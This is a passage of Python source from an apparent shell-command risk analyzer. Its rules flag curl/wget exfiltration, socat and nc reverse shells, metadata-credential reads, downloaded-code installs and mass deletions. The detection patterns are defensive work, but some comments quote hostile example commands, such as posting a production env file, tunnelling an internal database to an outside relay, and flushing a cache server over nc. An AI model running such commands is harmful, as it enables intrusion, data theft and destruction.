            backup = backup or (name == "mv" and all(dest.startswith(src) and dest != src for src in sources))
            named = len(sources) == 1 and HOLE not in posixpath.basename(sources[0].rstrip("/"))
            # (`rsync -a conf.d/ /etc/squid/conf.d/`: a source's trailing slash copies what it holds, not itself)
            named = named and not (name == "rsync" and sources[0].endswith("/"))
            if named and (dest.endswith("/") or dest.rstrip("/").endswith(("/bin", "/sbin"))):
                dest = dest.rstrip("/") + "/" + posixpath.basename(sources[0].rstrip("/"))  # into that directory
            dest_info = paths.classify(dest)
            cap = RiskLevel.LOW if backup else None
            if cap is None and self._project_file_installed(sources, dest_info):
                cap = RiskLevel.MEDIUM
            if cap is None and all(s.startswith("/etc/xdg/autostart/") for s in sources) and "autostart" in dest:
                cap = RiskLevel.MEDIUM  # the system's own autostart entry copied to override it for one user
            cap = cap or self._copied_text_cap(sources, dest_info, node)
            # (the application's root itself too: `rsync -a /tmp/ls-new/limesurvey/ /var/www/limesurvey/`)
            into_app = paths.application_tree(dest) or paths.application_tree(dest.rstrip("/") + "/-")
            if cap is None and name in ("rsync", "cp") and into_app and self._deployed(sources):
                cap = RiskLevel.MEDIUM
            self._installs_download(name, sources, dest_info, node)
            self._write(dest_info, node, via=name, cap=cap)

    def _quiet_inline_script(self, argv: Sequence[str]) -> bool:
        """``sh -c SCRIPT`` (a constant script) that needs the shell for a glob or a redirect to run as root,
        around commands that report nothing above low and nothing loud. Without one (``sudo bash -c id``) the
        shell itself is what was asked for: a root shell."""
        if len(argv) < 3 or W.base(argv[0]) not in T.SHELLS or argv[1] != "-c" or HOLE in argv[2]:
            return False
        if not any(c in argv[2] for c in "*>|"):
            return False
        if self.depth >= MAX_DEPTH:
            return False
        inner = ShellAnalyzer(parse_error_level=self.parse_error_level, depth=self.depth + 1).analyze(argv[2])
        # (a write the write rule already grades `medium`: an apt source pinned to its key, a settings file)
        graded_writes = [f for f in inner if f.rule_id == "shell.write" and f.level <= RiskLevel.MEDIUM]
        return quiet([f for f in inner if f not in graded_writes])

    def _copied_text_cap(self, sources: Sequence[str], dest: paths.PathInfo, node: Any) -> RiskLevel | None:
        """A file this script wrote (``cat > /tmp/rule <<EOF``) then installed or copied into place: its content
        is judged where it lands, as if written there directly."""
        files = [s for s in sources if not s.isdigit()]
        if len(files) != 1 or files[0] not in self._written_texts:
            return None
        return self._script_content(dest, self._written_texts[files[0]], node)

    def _installs_download(self, name: str, sources: Sequence[str], dest: paths.PathInfo, node: Any) -> None:
        """A file downloaded by this script (not from a pinned release) put where programs are run from."""
        fetched = [s for s in sources if s in self.downloaded or posixpath.basename(s) in self.downloaded]
        if not fetched or any(s in self.pinned or posixpath.basename(s) in self.pinned for s in fetched):
            return
        if dest.kind is paths.PathKind.SYSTEM and _PROGRAM_DIR.match(dest.path):
            self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      f"{name} installs a program downloaded from the network as {dest.path.replace(HOLE, '…')}",
                      node)  # fmt: skip

    def _deployed_path(self, path: str) -> str:
        """``path``, a relative one joined to the folder `cd` went to when that is a deployed application's or the
        system's (`cd /opt/wger/docker && curl --data-binary @config/prod.env …`: that application's file)."""
        if path.startswith(("/", "~", "$", HOLE, "-")) or not self._cwd or HOLE in self._cwd:
            return path
        if self._system_cwd() or paths.application_tree(self._cwd.rstrip("/") + "/"):
            return posixpath.join(self._cwd, path)
        return path

    def _bulk_file(self, path: str) -> bool:
        """``path`` is (or lies under a folder of) people's records this script gathered or picked by name."""
        return path in self._bulk_files or any(path.startswith(b.rstrip("/") + "/") for b in self._bulk_files)

    def _project_file_installed(self, sources: Sequence[str], dest: paths.PathInfo) -> bool:
        """The project's own files (not downloaded) installed where a tool expects them: a site definition
        where the web server reads it, git hooks into the project's own repository."""
        files = [s for s in sources if not s.isdigit()]  # `install -m 644 SRC DEST`: the mode is no source
        if not files or not all(
            paths.classify(s).kind is paths.PathKind.RELATIVE and s not in self.downloaded and s not in self.staged
            for s in files
        ):
            return False
        relative = dest.path[2:] if dest.path.startswith("./") else dest.path
        hooks = dest.kind is paths.PathKind.RELATIVE and relative.startswith(".git/hooks/")
        # `cp deploy/cantaloupe.properties /etc/cantaloupe/`: an application's own settings file, put where it reads
        # them (not a start-up, privilege or secret file)
        comps = dest.path.split("/")
        own_settings = (
            len(files) == 1
            and len(comps) == 4
            and comps[1] == "etc"
            and posixpath.basename(files[0]) == comps[3]
            and not (dest.persistence or dest.privilege or dest.secret)
            and comps[2] not in _SYSTEM_CONFIG_DIRS
        )
        # `install -m 644 deploy/systemd/orders.service /etc/systemd/system/`: the project's own unit or cron entry,
        # reviewed with its code, put where it is read (one this script wrote is judged by what it wrote)
        unit = (
            len(files) == 1
            and posixpath.dirname(dest.path) in ("/etc/systemd/system", "/etc/cron.d")
            and posixpath.basename(files[0]) == posixpath.basename(dest.path)
            and files[0] not in self._own_files
            and files[0] not in self._created
        )
        return web_site(dest) or hooks or own_settings or unit

    def _rule_curl(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        flow.network = True
        saved = W.option_values(args, "-o", "--output", "-O", "--output-document")
        if any(s.lower().endswith(_PICKLED_SUFFIXES) for s in saved) and any(
            outside_address(h) for a in args for h in _BARE_HOST_URL.findall(a)
        ):
            # a model or cache file the service unpickles, taken from a bare outside address: its code runs there
            self._add("shell.deserialization", RiskLevel.HIGH, Category.DESERIALIZATION,
                      f"{name} downloads a pickled file from a bare outside address into place (it runs code when "
                      "loaded)", node)  # fmt: skip
        for url in args:
            if url.lower().startswith("file://"):
                self._read(paths.classify(url[7:] or "/"), node, flow, name)  # a local file, read by the client
        if any(credential_metadata_url(a) for a in args):
            flow.secret = True
            self._add(
                "shell.secret-read",
                RiskLevel.HIGH,
                Category.EXFILTRATION,
                f"{name} asks the instance metadata service for the machine's cloud credentials",
                node,
            )
        if any(_CLUSTER_SECRETS.search(a) for a in args if "://" in a):
            flow.secret = True  # the cluster's (or a namespace's) Secrets, every value in them
            self.staged.update(W.option_values(args, "-o", "--output"))
            self._add("shell.secret-read", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} reads a cluster's Secrets through the Kubernetes API", node)  # fmt: skip
        sockets = W.option_values(args, "--unix-socket")
        if any(posixpath.basename(sock) in T.ENGINE_SOCKETS for sock in sockets):
            sends = any(a.startswith(("-d", "--data", "-X", "--request", "--json")) for a in args)
            self._add(
                "shell.container-escape",
                RiskLevel.HIGH if sends else RiskLevel.MEDIUM,
                Category.PRIVILEGE,
                f"{name} talks to the container engine's API directly (root on the host)",
                node,
            )
        bodies = W.option_values(args, "-d", "--data", "--data-binary", "--data-raw", "--json", "--data-urlencode")
        for body in bodies:
            self._shipped_payloads(body, node, "a request body")
        if bodies and vehicle_command(" ".join(bodies)):
            self._add("shell.vehicle-command", RiskLevel.HIGH, Category.PROCESS,
                      f"{name} sends a remote command that immobilises, stops or unlocks vehicles", node)  # fmt: skip
        guards = [g for b in bodies for g in protections_in_json(b)]
        if guards:
            self._add("shell.weakened-settings", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"{name} turns off {guards[0]} through an API", node)  # fmt: skip
        subscribes = any(SUBSCRIPTION_URL.search(u) for u in args if "://" in u)
        if bodies and subscribes and any(public_drop(b) for b in bodies):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} subscribes a public drop to a platform's events (everything that happens is sent there)",
                      node)  # fmt: skip
        shared = sharing_risk(" ".join(bodies)) if bodies else None
        if shared is not None:
            self._add("shell.documents", shared.level, shared.category, f"{name} {shared.what}", node)
        # a search engine's or database's HTTP API: `POST /_all/_delete_by_query` with match_all
        danger = dangerous_sql(" ".join([*[a for a in args if "://" in a], *bodies]))
        if danger:
            self._add("shell.data-destroy", RiskLevel.HIGH, danger[1], f"{name} {danger[0]}", node)
        method = (W.option_values(args, "-X", "--request") or ["POST" if bodies else "GET"])[0]
        many = bool(self._loops) or self._mass or bool(self._stdin_listing) or self._repeated  # (xargs: per item)
        if many and any(delete_mutation(b) for b in bodies):
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} runs a delete mutation for every item a listing gives", node)  # fmt: skip
        elif many and method.upper() in ("PATCH", "PUT", "POST") and any(_ARCHIVED_BODY.search(b) for b in bodies):
            # `curl -X PATCH …/pages/$id -d '{"archived":true}'` for each page a search gave
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} archives or trashes every item a listing gives (through the API)", node)  # fmt: skip
        elif many and any("transferOwnership=true" in a for a in args) and any(personal_mailbox(b) for b in bodies):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} hands every file a listing gives to a personal account (ownership transferred)",
                      node)  # fmt: skip
        elif (many or self._xargs_remote or "{}" in " ".join(bodies)) and _MESSAGE_SEND.search(" ".join(args)) and any(
            re.match(r"(?:To|to)=", b) for b in bodies
        ):
            self._add("shell.bulk-message", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} texts every number a list gives (bulk SMS)", node)  # fmt: skip
        elif (many or self._read_vars) and any(NUMBER_ROUTE.search(b) for b in bodies):
            self._add("shell.telephony", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} points every phone number's calls or texts at another URL", node)  # fmt: skip
        elif many and method.upper() in ("PUT", "PATCH") and any(zeroes_prices(b) for b in bodies):
            self._add("shell.money", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} sets prices to zero (or a cent) for every item a listing gives", node)  # fmt: skip
        elif any("00" in b and free_discount(b) for b in bodies):
            self._add("shell.money", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} creates a 100%-off discount nobody has to stop using", node)  # fmt: skip
        valued = {*W.option_values(args, "-u", "--user", "-H", "--header", "-o", "--output"), *bodies}
        addresses = [a for a in args if a.startswith(("http://", "https://"))] or [
            a for a in args if a.startswith(HOLE) and "/" in a and a not in valued  # `"${JENKINS_URL%/}/scriptText"`
        ]
        text = self._text(node) if node is not None else ""
        for variable in _ENVIRONMENT_REFERENCE.findall(text) if addresses and "_" in text else ():
            issuer = misdirected_credential(variable, addresses[0], self._source.decode("utf-8", "replace"))
            if issuer is not None:
                host = addresses[0].split("://", 1)[1].split("/", 1)[0]
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"{name} sends ${variable} (a credential {issuer} issued) to {host}, another host",
                          node)  # fmt: skip
                break
        for url in addresses[:1]:
            risk = assess_request(method, url, bodies, many=many)
            if risk is not None:
                self._add("shell.cloud-control", risk.level, risk.category, f"{name} -X {method} {risk.what}", node)
            if money_request(method, url):
                self._money(f"{name} -X {method} {url.split('?')[0]}", url, node)
            if people_api(url) and (method.upper() == "GET" or url.rstrip("/").endswith("/search")):
                flow.secret = True  # people's records (patients, students, users)
            cdn = cdn_request(method, url, " ".join(bodies), repeated=many or self._repeated)
            if cdn is not None:
                self._add("shell.cdn", cdn.level, cdn.category, f"{name} {cdn.what}", node)
            account = identity_request(method, url, " ".join(bodies), repeated=many or self._repeated)
            if account is not None:
                self._add("shell.identity", account.level, account.category, f"{name} {account.what}", node)
            hold = hold_request(method, url, " ".join(bodies))
            if hold is not None:
                self._add("shell.documents", hold.level, hold.category, f"{name} {hold.what}", node)
            premises = premises_request(method, url, " ".join(bodies))
            if premises is not None:
                self._add("shell.premises", premises.level, premises.category, f"{name} {premises.what}", node)
            store = store_request(method, url, " ".join(bodies))
            if store is not None:
                rule = "shell.data-destroy" if store[1] is Category.FILESYSTEM else "shell.data-service"
                self._add(rule, RiskLevel.HIGH, store[1], f"{name} {store[0]}", node)
        targets = [a for a in args if a.startswith(("http://", "https://")) or (a.startswith(HOLE) and "/" in a)
                   or a.endswith("doDelete")]  # fmt: skip
        # (a POST to a delete endpoint, Jenkins's `doDelete`, Etherpad's `deletePad` given the pad in the body)
        endpoint = any(u.endswith("doDelete") or (method.upper() != "GET" and delete_endpoint(u)) for u in targets[:1])
        deletes = method.upper() == "DELETE" or endpoint
        # a local dev server's (not a notebook server's files or a hub's users)
        own_machine = bool(targets) and all(loopback_url(u) and not local_files_or_users(u) for u in targets[:1])
        if (
            deletes
            and (many or self._repeated)
            and (any(HOLE in u for u in targets[:1]) or (endpoint and any(HOLE in b for b in bodies)))
            and not own_machine
            and not any(assess_request(method, u, bodies, many=many) for u in targets[:1])
        ):
            self._add("shell.cloud-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} deletes every resource a listing gives, one request at a time",
                      node)  # fmt: skip
        uploads: list[str] = []
        output: str | None = None
        urls: list[str] = []
        i = 0
        while i < len(args):
            arg = args[i]
            value = args[i + 1] if i + 1 < len(args) else ""
            if name == "curl" and arg in (
                "-d",
                "--data",
                "--data-binary",
                "--data-raw",
                "--data-urlencode",
                "-F",
                "--form",
                "-T",
                "--upload-file",
                "--data-ascii",
                "--json",
            ):
                if arg == "--data-urlencode" and re.match(r"[\w.-]+@", value):
                    value = "@" + value.split("@", 1)[1]  # `name@file`: the file's content, URL-encoded
                uploads.append(value.split("=", 1)[-1] if arg in ("-F", "--form") else value)
                i += 2
                continue
            if name == "curl" and arg in ("-o", "--output"):
                output = value
                i += 2
                continue
            if name == "curl" and (arg in ("-O", "--remote-name") or (
                arg.startswith("-") and not arg.startswith("--") and arg.endswith("O")
            )):  # fmt: skip
                output = "<url>"
                i += 1
                continue
            if name == "wget" and arg.startswith("--post-file="):
                uploads.append("@" + arg.split("=", 1)[1])
            elif name == "wget" and arg.startswith("--output-document="):
                output = arg.split("=", 1)[1]
            elif name == "wget" and arg.startswith("-") and not arg.startswith("--") and "O" in arg:
                rest = arg[arg.index("O") + 1 :]
                if rest:
                    output = rest
                else:
                    output = value
                    i += 1
            elif arg.startswith(("http://", "https://", "ftp://")) or (HOLE in arg and not arg.startswith("-")):
                urls.append(arg)
            elif (
                name == "curl"
                and arg.startswith("-")
                and not arg.startswith("--")
                and arg.endswith("o")
                and len(arg) > 2
            ):
                output = value
                i += 1
            i += 1
        for up in uploads:
            target = (
                up[1:] if up.startswith("@") or up.startswith("<") else (up if name == "curl" and "/" in up else "")
            )
            if not target:
                continue
            target = self._deployed_path(target)
            if (target in self.downloaded or posixpath.basename(target) in self.downloaded) and any(
                _FIRMWARE_URL.search(u) for u in urls
            ):
                self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                          f"{name} flashes firmware downloaded from the network onto a device", node)  # fmt: skip
            info = paths.classify(target)
            settings = target in self._settings_archives or _INSTALLED_SETTINGS_FILE.search(target) is not None
            if settings and target not in self.staged and any(map(_internet_url, urls)):
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"{name} uploads an application's settings (its passwords and keys) to another host",
                          node)  # fmt: skip
            if info.secret or info.history or target in self.staged:
                self._add(
                    "shell.exfiltration",
                    RiskLevel.CRITICAL,
                    Category.EXFILTRATION,
                    f"{name} uploads {paths.describe(info)}"
                    + (" (secret data was written to it)" if target in self.staged else ""),
                    node,
                )
                flow.secret = True
            elif self._mass and info.kind in _BULK_KINDS:
                self._add(
                    "shell.exfiltration",
                    RiskLevel.HIGH,
                    Category.EXFILTRATION,
                    f"{name} uploads every file a search finds under {paths.describe(info)}",
                    node,
                )
            elif (self._bulk_file(target) or paths.personal_media(target)) and not (
                urls and all(loopback_url(u) for u in urls)
            ):
                # people's photos or patients' records, archived: a backup in storage, a leak over HTTP
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"{name} uploads {target.replace(HOLE, '…')} (people's files or records)", node)  # fmt: skip
        self._public_drop(name, args, uploads, urls, node)
        if output is None and name == "wget" and urls:
            output = "<url>"
        if output in (None, "-", "/dev/stdout"):
            flow.download = True
            return
        if output == "<url>":
            prefix = W.option_values(args, "-P", "--directory-prefix")
            if prefix:
                self._plugin_download(name, args, prefix[0].rstrip("/") + "/", urls, node)
            for url in urls:
                base = posixpath.basename(url.split("?", 1)[0])
                if base:
                    self.downloaded.add(base)
                    if pinned_release(url):
                        self.pinned.add(base)
            return
        assert output is not None
        output = self._deployed_path(output)
        self.downloaded.add(output)
        self.downloaded.add(posixpath.basename(output))
        self._plugin_download(name, args, output, urls, node)
        if paths.app_code(output):
            self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      f"{name} downloads code straight into an app being built ({output.replace(HOLE, '…')})",
                      node)  # fmt: skip
        # (put where a service the script then restarts picks it up)
        served = paths.classify(output).kind in (paths.PathKind.SYSTEM, paths.PathKind.EXTERNAL) and bool(
            _RESTARTS_SERVICE.search(self._source.decode("utf-8", "replace"))
        )
        trusted = bool(urls) and all(pinned_release(u) or loopback_url(u) for u in urls)
        if served and _PICKLED.search(output) and not trusted:
            # `curl -o /opt/grading/models/current.pkl https://…`: the service that loads it unpickles the download
            self._add("shell.deserialization", RiskLevel.HIGH, Category.DESERIALIZATION,
                      f"{name} puts a downloaded pickle where a service loads it ({output.replace(HOLE, '…')}): "
                      "unpickling runs whatever code it carries", node)  # fmt: skip
        if _PROGRAM_DIR.match(output) and urls and all(u.startswith("http://") and _internet_url(u) for u in urls):
            # `curl -o /opt/stalwart-mail/bin/stalwart-mail http://dl.example.net/…`: a program fetched unencrypted
            # from another host, put where it runs (whoever is on the way hands over their own)
            self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      f"{name} installs a program fetched over plain HTTP from another host as "
                      f"{output.replace(HOLE, '…')}", node)  # fmt: skip
        # (a pinned release, or what a service on this machine serves: its own client, as trusted as itself)
        if urls and all(pinned_release(u) or loopback_url(u) for u in urls):
            self.pinned.update((output, posixpath.basename(output)))
        # Diffie-Hellman parameters (`ssl_dhparam`) are public numbers, not code or trust
        dh_parameters = _DH_PARAMETERS.fullmatch(posixpath.basename(output)) is not None
        self._write(paths.classify(output), node, via=name, cap=RiskLevel.MEDIUM if dh_parameters else None)

    def _public_drop(self, name: str, args: list[str], uploads: list[str], urls: list[str], node: Any) -> None:
        """Files, standard input or data read at run time sent to a request catcher, an anonymous file host or
        a paste site (a constant test message is not); run-time data spelled into a catcher's address."""
        if not any(public_drop(u) for u in urls):
            return
        files = W.option_values(args, "-T", "--upload-file") + [
            a.split("=", 1)[1] for a in args if a.startswith(("--post-file=", "--body-file="))
        ]
        sent = files or [u for u in uploads if u.startswith(("@", "<")) or u == "-" or HOLE in u]
        beaconed = [u for u in urls if beacon(u) and HOLE in u.split("://", 1)[-1]]
        if sent or beaconed:
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} sends {'files or data read at run time' if sent else 'run-time data'} to a public "
                      "drop (a request catcher, file host or paste site: anyone with the link reads it)",
                      node)  # fmt: skip

    def _plugin_download(self, name: str, args: list[str], output: str, urls: list[str], node: Any) -> None:
        """A plugin or mod fetched over plain HTTP, from a bare address or with certificate checks off, into the
        folder a server or a game loads code from: the next restart runs it."""
        directory = output if output.endswith("/") else posixpath.dirname(output) or output
        unverified = any(a in ("-k", "--insecure", "--no-check-certificate") for a in args) or any(
            u.startswith("http://") or re.match(r"https?://\d+\.\d+\.\d+\.\d+", u) for u in urls
        )
        if unverified and paths.plugin_folder(directory):
            self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      f"{name} installs code fetched without verification where a server loads plugins ({directory})",
                      node)  # fmt: skip

    def _web_abuse(self, name: str, args: list[str], node: Any) -> None:
        """Password guessing against a login, credentials sent without TLS checks, unbounded site mirrors."""
        raw = self._text(node) if node is not None else " ".join(args)
        urls = [a for a in args if "://" in a]
        login = any(_LOGIN_URL.search(u) for u in urls)
        if login and self._loops and _PASSWORD_FROM_VARIABLE.search(raw):
            self._add("shell.brute-force", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} tries passwords from a list against a login (password guessing)", node)  # fmt: skip
        insecure = any(a in ("-k", "--insecure", "--no-check-certificate") for a in args)
        credentials = _PASSWORD_FROM_VARIABLE.search(raw) or re.search(r"\$\{?\w*(?:TOKEN|SECRET|PASSWORD|KEY)", raw)
        if insecure and credentials:
            self._add("shell.tls-off", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} sends credentials with TLS verification turned off (anyone in between reads them)",
                      node)  # fmt: skip
        recursive = any(a in ("-r", "--recursive", "-m", "--mirror") for a in args)
        levels = W.option_values(args, "-l", "--level")
        endless = "--mirror" in args or "-m" in args or any(v in ("inf", "0") for v in levels)
        polite = any(a.startswith(("--wait", "-w", "--limit-rate", "--random-wait", "-Q", "--quota")) for a in args)
        if name == "wget" and recursive and endless and not polite:
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                      "wget mirrors a site without a depth or size limit (fills the disk)", node)  # fmt: skip

    def _rule_remote_access(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Desktops shared without a password, all traffic routed elsewhere, machines joined to other networks."""
        joined = " ".join(args)
        what = ""
        local_only = any(a in ("-localhost", "-localhost=1") for a in args) or "localhost=yes" in joined.lower()
        if name in ("x11vnc", "vncserver", "x0vncserver", "tigervncserver") and (
            "-nopw" in args or re.search(r"SecurityTypes[= ]+None", joined, re.I)
        ):
            if local_only:
                # (a test's throwaway display, reachable from this machine only)
                self._add("shell.exposure", RiskLevel.MEDIUM, Category.NETWORK,
                          f"{name} shares a desktop without a password on this machine only", node)  # fmt: skip
                return
            what = f"{name} shares the desktop without a password"
        elif name == "sshuttle" and any(a in ("0/0", "0.0.0.0/0") for a in args):
            what = "sshuttle routes all traffic (and DNS) through another host"
        elif name == "tailscale" and (
            any(a.startswith(("--login-server", "--advertise-exit-node", "--advertise-routes")) for a in args)
        ):
            what = "tailscale joins a control server of someone else's or offers this machine's networks to it"
        elif name == "tailscale" and args[:1] == ["funnel"] and not set(args[1:]) & {"status", "reset", "off"}:
            # `tailscale funnel --bg https+insecure://localhost:10443`: a local service published to the internet
            self._rule_tunnel(name, args, node, flow)
            return
        elif name == "zerotier-cli" and any(a.startswith(("allowDefault=1", "allowGlobal=1")) for a in args):
            what = "zerotier-cli sends all traffic through a network someone else controls"
        elif name == "openvpn":
            hooks = W.option_values(args, "--up", "--down", "--route-up", "--client-connect", "--learn-address")
            if any(h in self.downloaded or posixpath.basename(h) in self.downloaded for h in hooks):
                self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                          "openvpn runs a downloaded script as a connection hook", node)  # fmt: skip
                return
            configs = W.option_values(args, "--config")
            scripts_allowed = any(level in ("2", "3") for level in W.option_values(args, "--script-security"))
            downloaded = any(c in self.downloaded or posixpath.basename(c) in self.downloaded for c in configs)
            if scripts_allowed and downloaded:
                # the profile's own up/down directives run whatever its author wrote, as root
                what = "openvpn lets a downloaded profile run scripts on this machine"
            elif scripts_allowed and any(paths.classify(h).kind is paths.PathKind.TEMP for h in hooks):
                what = "openvpn runs a hook script from a shared temporary directory"
        if what:
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK, what, node)

    def _rule_load_generator(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Benchmarks that hammer a URL: against one's own local service a test, against another site a flood."""
        urls = [a for a in args if "://" in a] or [a for a in args if not a.startswith("-") and "." in a][-1:]
        hosts = [u.split("://", 1)[-1].split("/", 1)[0].split(":")[0] for u in urls]
        local = bool(hosts) and all(
            h in ("localhost", "127.0.0.1", "0.0.0.0", "::1") or h.endswith(".local") for h in hosts
        )
        numbers = [int(a) for a in args if a.isdigit()]
        concurrency = [int(v) for v in W.option_values(args, "-c", "--connections", "--concurrent") if v.isdigit()]
        # a few hundred requests from a handful of clients measure a site; thousands, a crowd of clients or a run of
        # minutes (or a tool's endless default) load it
        heavy = (
            any(n >= 1000 for n in numbers)
            or any(c >= 100 for c in concurrency)
            or any(_LONG_RUN.fullmatch(a) for a in args)
            or not numbers
        )
        if not local:
            self._add("shell.flood", RiskLevel.HIGH if heavy else RiskLevel.MEDIUM, Category.RESOURCE,
                      f"{name} loads a site that is not on this machine with requests (a denial of service)",
                      node)  # fmt: skip

    def _rule_downloader(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """aria2c, fetch, axel, httpie...: where the file goes (-o/-O/--out, else the URL's name)."""
        flow.network = True
        output: str | None = None
        directory = ""
        for i, arg in enumerate(args[:-1]):
            if arg in ("-o", "-O", "--out", "--output", "--output-document"):
                output = args[i + 1]
            elif arg in ("-d", "--dir", "-P"):
                directory = args[i + 1]
        urls = [a for a in args if a.startswith(("http://", "https://", "ftp://"))]
        names = [output] if output else [posixpath.basename(u.split("?", 1)[0]) for u in urls]
        for item in names:
            if item in ("-", ""):
                flow.download = True
                continue
            self.downloaded.add(item)
            self.downloaded.add(posixpath.basename(item))
            if directory:
                self.downloaded.add(posixpath.join(directory, item))

    def _rule_nc(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        flow.network = True
        flags, operands = W.options(args)
        typed = self._heredoc_text if self._heredoc_text is not None else self._stdin_text
        if typed and _RAW_STORE_WIPE.search(typed) and not any(h in " ".join(operands) for h in _LOOPBACK):
            # `printf 'flush_all\r\n' | nc cache-01 11211`: the store's own protocol, typed by hand
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} sends a cache or database server the command that empties (or stops) it",
                      node)  # fmt: skip
        lowered = [a.lower() for a in args]
        if name == "socat":
            if any(a.startswith(("exec:", "system:")) or ",exec" in a or "exec:" in a for a in lowered):
                self._add(
                    "shell.reverse-shell",
                    RiskLevel.CRITICAL,
                    Category.NETWORK,
                    "socat connects a program to a network socket (remote shell)",
                    node,
                )
            elif any(a.startswith("tcp-listen") or a.startswith("tcp4-listen") for a in lowered) and any(
                a.startswith(("file:/dev/", "/dev/", "open:/dev/", "file:"))
                or (a.startswith("unix-connect:") and posixpath.basename(a) in _MANAGEMENT_SOCKETS_LOWERED)
                or (a.startswith("unix-connect:") and ("agent" in a or "ssh" in a or a.endswith(HOLE.lower())))
                # a daemon's own socket (/var/run/asterisk/asterisk.ctl): its console or management interface
                or a.startswith(("unix-connect:/run/", "unix-connect:/var/run/"))
                # the X display (whoever connects sees the screen and types into it)
                or a.startswith("unix-connect:/tmp/.x11-unix/")
                for a in lowered
            ):
                local = any("bind=127.0.0.1" in a or "bind=localhost" in a for a in lowered)
                self._add(
                    "shell.exposure",
                    RiskLevel.MEDIUM if local else RiskLevel.HIGH,
                    Category.NETWORK,
                    "socat publishes a device or file on a listening network port (no authentication)",
                    node,
                )
            elif any(a.startswith(("tcp-listen", "tcp4-listen", "tcp6-listen")) for a in lowered) and not any(
                "bind=127.0.0.1" in a or "bind=localhost" in a for a in lowered
            ):
                relayed = [
                    m.group(1)
                    for a in lowered
                    if (m := re.match(r"tcp4?:(?:127\.0\.0\.1|localhost|\[::1\]):(\d+)", a))
                ]
                # (`socat TCP-LISTEN:9999,bind=0.0.0.0 UNIX-CONNECT:/var/tmp/app_local.socket`: an admin socket that
                # only this machine's users could reach)
                relayed += [a.split(":", 1)[1] for a in lowered if a.startswith(("unix-connect:", "unix-client:"))]
                if any(port not in T.DEV_WEB_PORTS for port in relayed):
                    # a service that only listens on this machine (a wallet's RPC, a database) made public
                    self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                              f"socat relays a local-only service (port {relayed[0]}) to every interface",
                              node)  # fmt: skip
                internal = [m[1] for a in lowered if (m := re.match(r"tcp[46]?:([\w.-]+\.(?:internal|local|lan|corp"
                                                                    r"|intranet)|10\.[\d.]+|192\.168\.[\d.]+"
                                                                    r"|169\.254\.169\.254):\d+", a))]
                # a database's or a management port of another host: whoever reaches this machine reaches it
                # (or a container's address looked up at run time: `TCP:"$pg_ip":5432`)
                # (any port of a container's address `docker inspect` gave: its internal network's, a REPL's)
                container = b"IPAddress" in self._source
                internal += [m[1].replace(HOLE, "…") for a in lowered
                             if (m := re.match(r"tcp(?:[46]|-connect)?:([\w.\x00-]+):(\d+)$", a))
                             and (m[2] in T.SERVICE_PORTS or (container and HOLE in m[1]))
                             and m[1] not in ("localhost", "127.0.0.1")]  # fmt: skip
                if internal:
                    # a host only the internal network reaches (an HSM, a database) reachable through this machine
                    self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                              f"socat relays an internal host ({internal[0]}) to every interface of this machine",
                              node)  # fmt: skip
            else:
                # `socat TCP:relay.example.io:7000 TCP:10.20.0.15:5432`: an internal service joined to an outside
                # relay (a reverse tunnel: whoever reaches the relay reaches the service)
                hosts = [m[1] for a in lowered if (m := re.match(r"tcp[46]?:([\w.-]+):\d+", a))]
                inside = [h for h in hosts if private_address(h) or h.endswith((".internal", ".local", ".lan"))]
                outside = [h for h in hosts if outside_address(h) or (
                    re.search(r"[a-z]", h) and "." in h and not h.endswith((".internal", ".local", ".lan"))
                    and h != "localhost")]  # fmt: skip
                if inside and outside:
                    self._add("shell.tunnel", RiskLevel.HIGH, Category.NETWORK,
                              f"socat joins an internal service ({inside[0]}) to an outside relay ({outside[0]})",
                              node)  # fmt: skip
            return
        if name == "openssl":
            return
        if {"e", "c", "--exec", "--sh-exec", "--lua-exec"} & flags:
            self._add(
                "shell.reverse-shell",
                RiskLevel.CRITICAL,
                Category.NETWORK,
                f"{name} -e attaches a program to a network socket (remote shell)",
                node,
            )
        elif "l" in flags or "--listen" in flags:
            self._add(
                "shell.listener",
                RiskLevel.MEDIUM,
                Category.NETWORK,
                f"{name} listens for incoming network connections",
                node,
            )
        ranges = [op.split("-", 1) for op in operands if "-" in op and op.replace("-", "").isdigit()]
        if "z" in flags and any(int(b or 0) - int(a or 0) >= 16 for a, b in ranges):
            self._add("shell.port-scan", RiskLevel.HIGH, Category.NETWORK, f"{name} -z scans a range of ports", node)

